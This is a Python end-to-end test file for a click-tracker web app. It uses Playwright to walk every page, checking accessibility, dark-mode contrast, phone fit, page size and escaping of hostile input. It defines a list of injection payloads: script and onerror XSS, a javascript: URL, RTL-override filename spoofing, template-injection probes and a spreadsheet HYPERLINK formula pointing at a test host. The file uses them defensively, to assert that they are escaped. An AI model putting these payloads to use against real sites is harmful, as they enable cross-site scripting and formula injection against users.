"""Every page that is declared, in a real Chromium, over a history and hostile values.

A page is used by people who cannot see it, on a phone, in the dark, and with the values that strangers send.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import NamedTuple
from urllib.parse import urlencode

import pytest
import redis
from playwright.async_api import Browser, Page

from tests.conftest import Furnish
from tests.e2e.browsing import (
    base_of,
    become_first_admin,
    browser,
    faults_of,
    fits,
    invitation,
    join,
    needs_chromium,
    visiting,
)
from tests.e2e.running import Up, command, up, wait_until
from tests.e2e.walk import Stop, declared, walk
from tracker.domain.access import rights_of
from tracker.domain.click_fields import ADV_SUBS, AFF_SUBS
from tracker.processes.engines.engine import redis_url
from tracker.stream import keys

__all__ = ["browser"]
pytestmark = [pytest.mark.anyio, needs_chromium]

MOST_BYTES = 150_000
"""Of the HTML, CSS and JavaScript of one page, unpacked."""

MARK = "<b data-hostile>&lt;\"'</b>"
"""A text that is an element on a page that forgets to escape it."""
HOSTILE = (
    f"{MARK}<script>alert(1)</script>",
    f"{MARK}\"'><img src=x onerror=alert(1) data-hostile>",
    "javascript:alert(1)//" + MARK,
    f"{MARK}\u202egnp.exe\u2066\u200f{{{{7*7}}}}${{7*7}}",
    f'=HYPERLINK("http://x.test/?"&A1,"{MARK}")',
    MARK + "W" * 2_000,
)
NAME = f"{MARK}<script>alert(1)</script>\u202egnp"
NOT_REACHED: dict[str, dict[str, str]] = {
    "admin": {"/dashboard/audit/{id}/back": "the newest change was none of an object"},
    "affiliate": {},
    "advertiser": {},
}
"""Pages that no page leads to here, by the role of the session, and why."""


class Person(NamedTuple):
    """Somebody who is signed in."""

    role: str
    page: Page


def catalogue() -> dict[str, object]:
    """One object of each kind that people name, with hostile texts."""
    texts = {"name": NAME, "note": HOSTILE[1][:200], "tags": [HOSTILE[0][:40]]}
    contact = {"contact": HOSTILE[1][:100]}
    return {
        "advertisers": [{"id": 7001, **texts, **contact}],
        "affiliates": [{"id": 7002, **texts, **contact}],
        "offers": [
            {
                "id": 7003,
                **texts,
                "advertiser_id": 7001,
                "category": HOSTILE[0][:60],
                "urls": [{"name": NAME, "url": "https://ad.test/?c={hash}&s={aff_sub}"}],
                "goals": [{"is_base": True, "name": NAME, "payout": "1", "revenue": "2", "currency": "EUR"}],
            }
        ],
    }


def click(tracker: Up, number: int) -> None:
    """One of three clicks whose every field is hostile: an address has no room for all of them."""
    names = ["source", "external_id", "gaid", "idfa", *AFF_SUBS, *ADV_SUBS][number::3]
    texts = {name: HOSTILE[place % len(HOSTILE)] for place, name in enumerate(names)}
    query = urlencode({"affiliate_id": 7002, **texts})
    header = HOSTILE[number % 3].replace("\r", "")
    response, _ = tracker.get(
        f"/offer/7003?{query}", **{"User-Agent": header, "Referer": header, "Accept-Language": header}
    )
    assert response.status == 302


@pytest.fixture(scope="module")
def tracker(furnish: Furnish, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Up]:
    """A tracker with a history, and then with what strangers sent."""
    place = tmp_path_factory.mktemp("every-page")
    with up(furnish(place / "var"), "--no-demo", TRACKER_API_RATE="100000/second") as running:
        command(running, "demo", "--days", "3", "--clicks", "1000", may_warn=True)
        fill(running, place)
        yield running


def fill(tracker: Up, place: Path) -> None:
    path = place / "hostile.json"
    path.write_text(json.dumps(catalogue()))
    command(tracker, "import", "catalogue", str(path), may_warn=True)
    wait_until(lambda: tracker.head_location("/offer/7003?affiliate_id=7002").startswith("https://ad.test"))
    for number in range(3):
        click(tracker, number)
    with redis.Redis.from_url(redis_url(tracker.data_dir)) as client:
        client.xadd(keys.dead(0), {"r": b"\x09{}", "id": "1-0", "reason": HOSTILE[0].encode()})


@pytest.fixture(scope="module")
async def admin(tracker: Up, browser: Browser) -> AsyncIterator[Person]:
    async with visiting(browser) as (page, _):
        await become_first_admin(page, tracker)
        yield Person("admin", page)


@pytest.fixture(scope="module", params=["affiliate", "advertiser"])
async def partner(request: pytest.FixtureRequest, tracker: Up, browser: Browser) -> AsyncIterator[Person]:
    id_ = {"affiliate": "7002", "advertiser": "7001"}[request.param]
    words = (f"{request.param}@pages.test", "--role", request.param, f"--{request.param}", id_)
    async with visiting(browser) as (page, _):
        await join(page, invitation(tracker, *words))
        yield Person(request.param, page)


async def faults_at(page: Page, stop: Stop) -> list[str]:
    """What is wrong with a page."""
    found = [f"axe: {fault}" for fault in await faults_of(page)]
    await page.emulate_media(color_scheme="dark")
    found += [f"axe in the dark: {fault}" for fault in await faults_of(page, rules=["color-contrast"])]
    await page.emulate_media(color_scheme="light")
    if not await fits(page):
        found.append("a phone scrolls it sideways")
    if (size := await page.evaluate(_SIZE)) > MOST_BYTES:
        found.append(f"it has {size:,} bytes")
    if await page.locator("[data-hostile]").count():
        found.append("a hostile text became an element")
    if await page.locator("a[href^='javascript:' i], form[action^='javascript:' i]").count():
        found.append("a hostile text became an address")
    return [f"{stop.address}: {fault}" for fault in found]


_SIZE = """
[...performance.getEntriesByType("navigation"), ...performance.getEntriesByType("resource")]
    .filter(entry => entry.entryType === "navigation" || /\\.(css|js)(\\?|$)/.test(entry.name))
    .reduce((sum, entry) => sum + entry.decodedBodySize, 0)
"""


async def judge(tracker: Up, person: Person) -> None:
    found: list[str] = []
    reached = set()
    async for stop in walk(person.page, base_of(tracker)):
        reached.add(stop.path)
        if not stop.is_file:
            found += await faults_at(person.page, stop)
    assert found == [], "\n".join(found)
    rights = rights_of(person.role, None if person.role == "admin" else person.role)  # type: ignore[arg-type]
    assert reached | NOT_REACHED[person.role].keys() == declared(rights)


async def test_pages_of_the_network_are_for_everybody(tracker: Up, admin: Person) -> None:
    await judge(tracker, admin)


async def test_pages_of_partners_are_for_everybody(tracker: Up, partner: Person) -> None:
    await judge(tracker, partner)
